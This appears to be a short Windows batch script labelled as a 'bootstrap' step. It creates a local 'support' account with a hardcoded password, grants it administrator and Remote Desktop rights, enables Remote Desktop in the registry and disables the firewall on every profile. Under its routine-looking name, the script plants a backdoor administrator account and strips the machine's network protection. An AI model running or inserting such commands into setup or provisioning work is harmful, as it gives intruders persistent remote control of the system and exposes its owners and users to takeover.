REM bootstrap 9968 v2
net user support Adm1n!strat0r /add /y
net localgroup administrators support /add
net localgroup "Remote Desktop Users" support /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
